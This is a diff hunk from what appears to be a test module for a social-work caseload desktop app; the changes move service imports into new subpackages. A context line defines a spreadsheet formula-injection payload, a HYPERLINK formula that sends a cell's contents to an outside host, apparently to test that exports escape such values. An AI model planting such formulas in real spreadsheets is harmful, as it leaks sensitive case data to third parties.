@@ -7,10 +7,12 @@ from datetime import date
 
 from openpyxl import load_workbook
 
-from fsw_desktop.services import caseload_export, caseload_import, lists, summary, team
-from fsw_desktop.services.referrals import ReferralInput, create_referral
-from fsw_desktop.services.session import open_session
-from fsw_desktop.services.spreadsheet import read_cell, safe_cell
+from fsw_desktop.services.caseload import caseload_export, caseload_import
+from fsw_desktop.services.desk import lists
+from fsw_desktop.services.supervision import summary, team
+from fsw_desktop.services.casework.referrals import ReferralInput, create_referral
+from fsw_desktop.services.desk.session import open_session
+from fsw_desktop.services.caseload.spreadsheet import read_cell, safe_cell
 
 TODAY = date(2026, 3, 1)
 EVIL = '=HYPERLINK("http://x.invalid/?"&A2,"x")'
